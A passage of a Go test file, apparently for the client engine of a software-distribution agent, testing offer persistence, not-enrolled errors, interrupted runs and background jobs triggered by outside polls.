	a := s.packScript("exit 0\n")
	s.instruct(s.offer("S0100010", a, nil))
	s.poll()
	s.open()
	if offers := s.eng.Offers(); len(offers) != 1 {
		t.Fatalf("after restart: %+v", offers)
	}
}

func TestNotEnrolled(t *testing.T) {
	st, err := clientstore.Open(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	eng, err := client.New(client.Config{DataDir: t.TempDir(), Opener: shares.NewOpener()}, st)
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	if _, err := eng.Poll(ctx); !errors.Is(err, client.ErrNotEnrolled) {
		t.Errorf("poll: %v", err)
	}
	if _, err := eng.Run(ctx, "S0100010", nil); !errors.Is(err, client.ErrNotEnrolled) {
		t.Errorf("run: %v", err)
	}
	if err := eng.Serve(ctx, time.Second, nil); !errors.Is(err, client.ErrNotEnrolled) {
		t.Errorf("serve: %v", err)
	}
	if _, err := client.New(client.Config{DataDir: "x", Computer: "bad/name", Opener: shares.NewOpener()}, st); err == nil || !strings.Contains(err.Error(), "Computer") {
		t.Errorf("a bad computer name: %v", err)
	}
}

func TestInterruptedRunStaysDue(t *testing.T) {
	s := newSite(t)
	a := s.packScript("sleep 30\n")
	s.distribute(0, a)
	s.instruct(s.offer("S0100010", a, func(o *protocol.Offer) { o.MandatoryAfter = s.clock.Now() }))
	s.poll()
	ctx, cancel := context.WithCancel(context.Background())
	h, err := s.eng.Run(ctx, "S0100010", func(p client.Progress) {
		if p.Step == client.StepRun {
			time.AfterFunc(200*time.Millisecond, cancel)
		}
	})
	if err == nil || h.State != model.TargetRetrying || !strings.Contains(h.Error, "interrupted") {
		t.Fatalf("run: %+v, %v", h, err)
	}
	if st := s.status("S0100010"); st.State != model.TargetRetrying {
		t.Errorf("status %+v", st)
	}
	if o := find(s.eng.Offers(), "S0100010"); o == nil || o.State != client.OfferDue {
		t.Errorf("offer after the interruption: %+v", o)
	}
}

// A background job that a poll from outside the loop brings (a user's
// window or smsctl polling through the agent) runs without waiting for the
// loop's next round.
func TestServeRunsWhatAnOutsidePollBrings(t *testing.T) {
	s := newSite(t)
	marker := filepath.Join(s.out, "ran")
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	rounds := make(chan []client.Offer, 16)
	done := make(chan error, 1)
	go func() { done <- s.eng.Serve(ctx, time.Hour, func(o []client.Offer) { rounds <- o }) }()
	<-rounds // the first round found nothing
	a := s.packScript("echo x >> " + marker + "\n")
	s.distribute(0, a)
	s.instruct(s.offer("S0100010", a, func(o *protocol.Offer) { o.MandatoryAfter = s.clock.Now(); o.Command.Background = true }))
	s.poll()
	deadline := time.After(30 * time.Second)
	for {
		var offers []client.Offer
		select {
		case offers = <-rounds:
		case <-deadline:
			t.Fatal("the background job waited for the loop's next round")
		}
		if o := find(offers, "S0100010"); o != nil && o.State == client.OfferComplete {
			break
		}
	}
	cancel()
	if err := <-done; err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(marker); string(b) != "x\n" {
		t.Fatalf("ran %q", b)
	}
}
